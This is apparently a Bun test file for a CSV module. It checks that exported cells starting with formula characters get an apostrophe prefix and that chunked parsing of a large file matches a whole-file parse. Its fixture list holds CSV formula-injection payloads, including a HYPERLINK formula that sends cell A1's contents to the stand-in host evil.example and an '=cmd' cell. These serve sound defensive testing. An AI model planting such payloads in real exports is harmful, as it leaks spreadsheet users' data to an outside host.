import { describe, expect, test } from "bun:test";
import { parseCsv, parseCsvInSteps, toCsv } from "./csv-file";

describe("CSV cells a spreadsheet would run", () => {
  const hostile = [
    '=HYPERLINK("https://evil.example/?"&A1,\n"Click for your invoice")',
    "  =1+1",
    "\n@SUM(A1:A9)",
    "\r\n+94771234567",
    "\t-2+3",
    "\r=cmd",
    " \t-1",
  ];

  test("every one gets a leading apostrophe, line breaks and leading spaces included", () => {
    const written = toCsv(
      ["Address"],
      hostile.map((cell) => [cell]),
    );
    for (const cell of hostile) expect(written).toContain(`"'${cell.replaceAll('"', '""')}"`);
    // An import takes the apostrophe off again, so an exported file re-imports as it was.
    expect(parseCsv(written.slice(1)).rows.map((row) => row[0])).toEqual(hostile);
  });

  test("ordinary text and numbers are written as they are", () => {
    const written = toCsv(
      ["Address", "Units"],
      [
        ["No. 12, Galle Road - Colombo 3", 2],
        ["Kandy", -1],
      ],
    );
    expect(written).toBe('\uFEFFAddress,Units\r\n"No. 12, Galle Road - Colombo 3",2\r\nKandy,-1\r\n');
  });
});

describe("a big file parsed in steps", () => {
  // Semicolons, quoted cells with line breaks and doubled quotes, across many 256 kB steps.
  const row = (n: number) => `P-${n};"Pads ${n}\nfront; ""OEM"" ${"x".repeat(n % 50)}";=SUM(A${n})`;
  const text = ["Code;Name;Note", ...Array.from({ length: 20_000 }, (_, n) => row(n))].join("\r\n");

  test("reads the same table as the whole-file parse", async () => {
    expect(text.length).toBeGreaterThan(1024 * 1024);
    const whole = parseCsv(text);
    const stepped = await parseCsvInSteps(text);
    expect(stepped.headers).toEqual(["Code", "Name", "Note"]);
    expect(stepped.rows).toHaveLength(20_000);
    expect(stepped).toEqual(whole);
  });

  test("lets other work run between its steps", async () => {
    const order: string[] = [];
    const parsing = parseCsvInSteps(text).then(() => order.push("parsed"));
    setImmediate(() => order.push("other work"));
    await parsing;
    expect(order).toEqual(["other work", "parsed"]);
  });

  test("a file without a header row is refused as before", async () => {
    await expect(parseCsvInSteps("\n\n")).rejects.toThrow("The file has no header row");
  });
});
